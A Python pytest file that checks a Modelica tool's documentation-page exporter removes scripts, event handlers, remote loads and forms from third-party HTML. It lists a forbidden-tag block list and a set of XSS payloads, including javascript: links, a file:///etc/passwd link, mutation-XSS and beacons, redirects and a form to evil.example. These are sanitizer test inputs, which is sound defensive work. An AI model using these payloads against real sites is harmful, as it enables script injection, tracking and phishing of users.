"""Modelica documentation is written by others: nothing in the page made of it acts or loads."""

from __future__ import annotations

import dataclasses

import pytest
from lxml import html
from plant_models import pendulum

from cranebridge.frontend.compile.source_text import class_text, documentation_text, top_class
from cranebridge.frontend.library import library_path
from cranebridge.plant.export.documentation import documentation_page

# tags and attributes that a page can act with, load from elsewhere with, or hide with
FORBIDDEN = {
    *("script", "style", "link", "meta", "base", "iframe", "frame", "object", "embed", "applet"),
    *("form", "input", "button", "math", "template", "noscript", "audio", "video", "source"),
    *("foreignobject", "use", "animate", "set"),
}

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt >alert(1)</sCrIpT >",
    "script without an end": "<script>alert(1)",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script from elsewhere": '<script src="https://evil.example/a.js"></script>',
    "event handler": '<p onclick="alert(1)">text</p><img src="a.png" onerror=alert(1)>',
    "event handler without a space": '<img/src="a.png"/onerror="alert(1)">',
    "body's handler": '<body onload="alert(1)">text</body>',
    "link": '<a href="javascript:alert(1)">text</a>',
    "link with a tab": '<a href="java&#9;script:alert(1)">text</a>',
    "link with entities": '<a href="&#106;avascript&colon;alert(1)">text</a>',
    "link to vbscript": '<a href="VBScript:alert(1)">text</a>',
    "link to data": '<a href="data:text/html,<script>alert(1)</script>">text</a>',
    "link to a file": '<a href="file:///etc/passwd">text</a>',
    "picture of data": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    "picture from elsewhere": '<img src="https://evil.example/seen.png">',
    "picture from elsewhere, short": '<img src="//evil.example/seen.png">',
    "picture from a share": '<img src="\\\\evil.example\\seen.png">',
    "picture from a package": '<img src="modelica://Other/a.png" srcset="https://evil.example/a">',
    "style": "<style>body { background: url(https://evil.example/) }</style>",
    "style of a tag": '<p style="background: url(https://evil.example/)">text</p>',
    "svg": '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:1"/></svg>',
    "svg in math": '<math><mtext><svg><style><img src=x onerror="alert(1)"></style></svg></math>',
    "iframe": '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="a.swf"><embed src="a.swf"></object>',
    "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="a"><button>go</button></form>',
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><script>1</script>-->",
    "end of the page": "</p></body></html><script>alert(1)</script>",
    "text area": "<textarea></textarea><script>alert(1)</script>",
    "title": "<title><script>alert(1)</script></title>",
}


def page(text: str) -> html.HtmlElement:
    """The page of a model with this documentation, without our own style and picture."""
    model = dataclasses.replace(pendulum(), documentation=f"<html>{text}<p>after</p></html>")
    content = documentation_page(model, "a tool").decode()
    assert content.count("<svg") == content.count("<style>") == 1
    root = html.document_fromstring(content)
    for ours in (root.find(".//svg"), root.find(".//style"), root.find(".//head/meta")):
        ours.drop_tree()
    return root


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_what_acts_or_loads_is_taken_out(text):
    root = page(text)
    for element in root.iter():
        assert isinstance(element.tag, str), "a comment"
        assert element.tag.lower() not in FORBIDDEN
        for name, value in element.attrib.items():
            assert not name.startswith("on")
            assert name in {"href", "rel", "src", "lang"}
            if element.tag == "img":
                assert value == "a.png"
            assert value.split(":")[0].lower() in {"", "a.png", "en", "noopener noreferrer"}
    # what stands there is still to be read, and so is what follows unless a tag has no end
    if text != HOSTILE["script without an end"]:
        assert "after" in root.text_content()
    if ">text<" in text:
        assert "text" in root.text_content()


def test_what_belongs_into_a_documentation_stays():
    root = page(
        "<h4>Model</h4><p>M(q) q'' &lt; f, <b>b</b> <a href=\"https://doi.org/10.1/x\">paper</a> "
        '<a href="modelica://Cranes.RotaryCrane">model</a></p><pre>a\n  b</pre>'
        '<table><tr><td colspan="2">x</td></tr></table><img src="pictures/a.png" alt="A crane">'
    )
    links = [link.get("href") for link in root.iter("a")]
    assert links == ["https://doi.org/10.1/x", "modelica://Cranes.RotaryCrane"]
    assert {link.get("rel") for link in root.iter("a")} == {"noopener noreferrer"}
    assert "M(q) q'' < f, b paper" in root.text_content()
    assert root.find(".//pre").text == "a\n  b"
    assert root.find(".//td[@colspan]").get("colspan") == "2"
    assert root.find(".//img").attrib == {"src": "pictures/a.png", "alt": "A crane"}


def test_documentation_of_our_cranes_is_shown_in_full():
    found = []
    for path in sorted(library_path().glob("*.mo")):
        text = path.read_text()
        top = top_class(text)
        if top is not None:
            found.append(documentation_text(class_text(text, top[1])))
    found = [text for text in found if "<html" in text]
    assert len(found) >= 5
    for text in found:
        model = dataclasses.replace(pendulum(), documentation=text)
        shown = html.document_fromstring(documentation_page(model, "a tool"))
        own = html.fromstring(text)
        words, all_words = " ".join(own.text_content().split()), shown.text_content().split()
        assert words in " ".join(all_words)
        assert {e.tag for e in own.iter()} - {"div"} <= {e.tag for e in shown.iter()}


def test_plain_documentation_is_escaped():
    model = dataclasses.replace(pendulum(), documentation="1 < 2 <script>alert(1)</script>")
    content = documentation_page(model, "<b>tool</b>").decode()
    assert "1 &lt; 2 &lt;script&gt;alert(1)&lt;/script&gt;" in content
    assert "&lt;b&gt;tool" in content
